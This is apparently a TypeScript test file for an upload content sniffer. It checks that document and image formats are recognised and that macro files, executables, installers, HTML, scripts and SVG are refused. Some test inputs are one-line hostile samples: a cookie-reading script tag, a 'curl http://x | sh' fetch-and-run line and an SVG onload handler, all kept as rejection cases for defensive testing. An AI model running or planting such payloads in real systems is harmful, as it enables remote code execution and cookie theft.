import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { Document, Packer, Paragraph } from 'docx';
import { contentSniffer } from '../../src/adapters/files/index.ts';
import { extensionOf } from '../../src/core/file-names.ts';
import { compoundFile, docmBytes, jpegBytes, pdfBytes, peExecutableBytes, pngBytes, pseudoRandomBytes, storedZip, xlsxBytes } from './samples.ts';

const text = (s: string) => new TextEncoder().encode(s);
const sniff = (bytes: Uint8Array) => contentSniffer.sniff(bytes);

test('a PDF is pdf', async () => {
  assert.deepEqual(await sniff(pdfBytes()), { kind: 'pdf', mime: 'application/pdf', detected: 'pdf' });
});

test('a PNG and a JPEG are png and jpg', async () => {
  assert.deepEqual(await sniff(pngBytes()), { kind: 'png', mime: 'image/png', detected: 'png' });
  assert.deepEqual(await sniff(jpegBytes()), { kind: 'jpg', mime: 'image/jpeg', detected: 'jpg' });
});

test('a Word document made by the docx package is docx', async () => {
  const bytes = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('申报书')] }] }));
  assert.deepEqual(await sniff(bytes), {
    kind: 'docx',
    mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    detected: 'docx',
  });
});

test('a SpreadsheetML package is xlsx, a plain zip is zip', async () => {
  assert.deepEqual(await sniff(xlsxBytes()), {
    kind: 'xlsx',
    mime: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    detected: 'xlsx',
  });
  const zip = storedZip([{ name: '材料/营业执照.pdf', data: pdfBytes() }, { name: 'readme.txt', data: 'x' }]);
  assert.deepEqual(await sniff(zip), { kind: 'zip', mime: 'application/zip', detected: 'zip' });
});

test('a macro-enabled Word package is refused, named docm', async () => {
  const r = await sniff(docmBytes());
  assert.equal(r.kind, null);
  assert.equal(r.detected, 'docm');
});

test('old Office files: Word is doc, Excel is xls, by their streams', async () => {
  assert.deepEqual(await sniff(compoundFile(['WordDocument', '1Table', '\u0005SummaryInformation'])), {
    kind: 'doc',
    mime: 'application/msword',
    detected: 'doc',
  });
  assert.deepEqual(await sniff(compoundFile(['Workbook', '\u0005SummaryInformation'])), { kind: 'xls', mime: 'application/vnd.ms-excel', detected: 'xls' });
  assert.equal((await sniff(compoundFile(['Book']))).kind, 'xls'); // Excel 5/95 (BIFF5)
});

test('the directory is followed across sectors: a stream listed in the second directory sector is found', async () => {
  const bytes = compoundFile(['\u0005SummaryInformation', '\u0005DocumentSummaryInformation', 'CompObj', 'Workbook']);
  assert.equal(bytes.length, 512 * 4); // header, FAT, two directory sectors
  assert.equal((await sniff(bytes)).kind, 'xls');
});

test('other OLE files are refused: PowerPoint, Windows Installer, encrypted Office, unknown', async () => {
  assert.deepEqual(await sniff(compoundFile(['PowerPoint Document', 'Current User'])), {
    kind: null,
    mime: 'application/vnd.ms-powerpoint',
    detected: 'ppt',
  });
  const msi = compoundFile(['\u4840\u3b3f\u4577\u446c'], { rootClassId: '84100c0000000000c000000000000046' });
  assert.deepEqual(await sniff(msi), { kind: null, mime: 'application/x-msi', detected: 'msi' });
  assert.equal((await sniff(compoundFile(['EncryptedInfo', 'EncryptedPackage']))).detected, 'encrypted-office');
  assert.deepEqual(await sniff(compoundFile(['Something'])), { kind: null, mime: 'application/x-cfb', detected: 'cfb' });
});

test('an OLE file whose directory lies beyond the bytes given counts as doc, detected cfb', async () => {
  const head = compoundFile(['Workbook']).subarray(0, 1024); // header and FAT only
  assert.deepEqual(await sniff(head), { kind: 'doc', mime: 'application/x-cfb', detected: 'cfb' });
});

test('a Windows executable renamed .pdf is refused as exe', async () => {
  assert.equal(extensionOf('申报材料.pdf'), 'pdf'); // what the name claims
  assert.deepEqual(await sniff(peExecutableBytes()), { kind: null, mime: 'application/x-msdownload', detected: 'exe' });
});

test('a Linux executable is refused as elf', async () => {
  const elf = readFileSync(process.execPath).subarray(0, 4096);
  const r = await sniff(elf);
  assert.equal(r.kind, null);
  if (process.platform === 'linux') assert.equal(r.detected, 'elf');
});

test('HTML, scripts and SVG are refused', async () => {
  assert.deepEqual(await sniff(text('<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>')), {
    kind: null,
    mime: null,
    detected: null,
  });
  assert.deepEqual(await sniff(text('#!/bin/sh\ncurl http://x | sh\n')), { kind: null, mime: null, detected: null });
  assert.deepEqual(await sniff(text('<script>fetch("/api")</script>%PDF-1.4')), { kind: null, mime: null, detected: null });
  const svg = await sniff(text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'));
  assert.equal(svg.kind, null);
  assert.equal(svg.detected, 'xml');
});

test('random bytes and nothing at all are unknown', async () => {
  assert.deepEqual(await sniff(pseudoRandomBytes(64 * 1024)), { kind: null, mime: null, detected: null });
  assert.deepEqual(await sniff(new Uint8Array(0)), { kind: null, mime: null, detected: null });
});

test('only the first bytes are needed: a 4 MiB head of a larger PDF is still pdf', async () => {
  const big = Buffer.concat([pdfBytes(), pseudoRandomBytes(5 * 1024 * 1024)]);
  assert.equal((await sniff(big.subarray(0, 4 * 1024 * 1024))).kind, 'pdf');
});
